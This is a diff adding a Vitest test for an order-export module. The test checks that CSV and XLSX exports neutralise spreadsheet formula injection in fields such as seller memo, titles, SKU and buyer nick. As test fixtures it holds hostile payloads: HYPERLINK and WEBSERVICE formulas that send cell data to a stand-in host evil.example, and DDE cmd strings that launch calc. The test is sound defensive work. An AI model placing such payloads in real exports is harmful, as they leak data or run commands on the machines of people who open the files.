@@ -5,9 +5,11 @@
  */
 import ExcelJS from "exceljs";
 import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
+import JSZip from "jszip";
 import { db } from "@/lib/db";
 import { parseYuan } from "@/lib/money";
-import { closeSyncSql } from "@/lib/sync/sql";
+import { closeSyncSql, syncSql } from "@/lib/sync/sql";
+import { storeTradesWork } from "@/lib/sync/store";
 import type { TopTrade } from "@/lib/top";
 import { presetRange } from "@/lib/time";
 import { exportOrders } from "./export";
@@ -106,6 +108,84 @@ describe(`export on ${inject("databaseProvider")}`, () => {
     expect(rows).toHaveLength(1_300);
     expect(new Set(rows.map((x) => x[0])).size).toBe(1_300);
     expect(rows.every((x) => x[0]!.startsWith("33"))).toBe(true);
+  });
+
+  it("neutralises formula injection in CSV text cells (hostile memo, titles, SKU, outer id, nick), keeps numbers numbers, and XLSX typed as strings", async () => {
+    const shop = await newTestShop("公式注入店");
+    const [a, b] = genTrades({ n: 2, seed: 23, end: NOW, days: 2, tidPrefix: "35" });
+    const hostile = {
+      memo: `=HYPERLINK("http://evil.example/?d="&A2,"点我查看")`,
+      title: `+cmd|' /C calc'!A0`,
+      sku: `-2+3+cmd|' /C calc'!A0`,
+      outer: `@SUM(1+1)*cmd|' /C calc'!A0`,
+      nick: "\t=1+1",
+      city: "\r=1+1",
+      message: `=WEBSERVICE("http://evil.example/"&A2)`,
+    };
+    a!.sellerMemo = hostile.memo;
+    a!.buyerMessage = hostile.message;
+    a!.hasBuyerMessage = true;
+    a!.buyerNick = hostile.nick;
+    a!.receiverCity = hostile.city;
+    a!.adjustFeeFen = -1250;
+    a!.orders = [{ ...a!.orders[0]!, title: hostile.title, skuPropertiesName: hostile.sku, outerIid: hostile.outer }];
+    b!.sellerMemo = "'已是文本 = 不变";
+    const sql = await syncSql();
+    await sql.tx(() => storeTradesWork(sql.dialect, { shopId: shop, trades: [a!, b!].map((trade) => ({ trade, rawJson: JSON.stringify({ tid: trade.tid }), source: "detail" as const })), leaseOwner: null, now: new Date() }));
+    const owner = { ...testViewer(shop, "OWNER"), userId };
+    const all = parseOrderFilters({}).params;
+    const TRIGGER = /^[=+\-@\t\r]/;
+
+    for (const per of ["line", "trade"] as const) {
+      const raw = (await bytes((await exportOrders(owner, all, { format: "csv", per, locale: "zh-CN", now: NOW })).stream)).subarray(3).toString("utf8");
+      const [header, ...body] = parseCsv(raw);
+      const row = body.find((r) => r[0] === a!.tid)!;
+      const cell = (name: string) => row[header!.indexOf(name)];
+      expect(cell("卖家备注")).toBe(`'${hostile.memo}`);
+      expect(cell("买家昵称")).toBe(`'${hostile.nick}`);
+      expect(cell("收货城市")).toBe(`'${hostile.city}`);
+      if (per === "line") {
+        expect([cell("宝贝标题"), cell("SKU"), cell("商家编码")]).toEqual([`'${hostile.title}`, `'${hostile.sku}`, `'${hostile.outer}`]);
+      } else {
+        expect(cell("宝贝")!.startsWith(`'${hostile.title}`)).toBe(true);
+        // A negative amount in a money column is a number: never prefixed.
+        expect(cell("改价（元）")).toBe("-12.50");
+      }
+      // Each neutralised cell stays quoted in the file (its quotes doubled inside).
+      expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""点我查看"")"`);
+      expect(raw).toContain(`"'\t=1+1"`);
+      // No text cell of the file begins a formula; a benign leading quote is left alone.
+      const numeric = ["单价（元）", "子订单实付（元）", "商品总额（元）", "运费（元）", "优惠（元）", "改价（元）", "实付（元，含运费）", "数量", "宝贝件数"].map((h) => header!.indexOf(h));
+      expect(header!.some((c) => TRIGGER.test(c))).toBe(false);
+      for (const r of body) r.forEach((c, i) => expect(numeric.includes(i) ? /^-?\d+(\.\d+)?$/.test(c) : !TRIGGER.test(c), `${i}: ${JSON.stringify(c)}`).toBe(true));
+      expect(body.find((r) => r[0] === b!.tid)![header!.indexOf("卖家备注")]).toBe("'已是文本 = 不变");
+      // The buyer message is not an export column: it reaches no file.
+      expect(raw).not.toContain("WEBSERVICE");
+    }
+
+    const file = await bytes((await exportOrders(owner, all, { format: "xlsx", per: "trade", locale: "zh-CN", now: NOW })).stream);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(file as unknown as ArrayBuffer);
+    const sheet = wb.worksheets[0]!;
+    const header = (sheet.getRow(1).values as unknown[]).slice(1);
+    let found = 0;
+    sheet.eachRow((row, n) => {
+      row.eachCell((c) => expect(c.type, `${n}:${c.address}`).not.toBe(ExcelJS.ValueType.Formula));
+      if (row.getCell(1).value !== a!.tid) return;
+      found++;
+      const c = (name: string) => row.getCell(header.indexOf(name) + 1);
+      // Typed string cells holding the text exactly (no prefix in XLSX), numbers as numbers.
+      // (XML reads a bare carriage return as a line feed: the city's \r comes back as \n.)
+      for (const [name, want] of [["卖家备注", hostile.memo], ["买家昵称", hostile.nick], ["收货城市", "\n=1+1"]] as const) {
+        expect([c(name).type, c(name).value]).toEqual([ExcelJS.ValueType.String, want]);
+      }
+      expect([c("改价（元）").type, c("改价（元）").value]).toEqual([ExcelJS.ValueType.Number, -12.5]);
+    });
+    expect(found).toBe(1);
+    // The sheet's XML holds no formula element at all.
+    const zip = await JSZip.loadAsync(file);
+    const xml = await zip.file(/xl\/worksheets\/sheet\d+\.xml/)[0]!.async("string");
+    expect(xml).not.toMatch(/<f[ >]/);
   });
 
   it("refuses customer service", async () => {
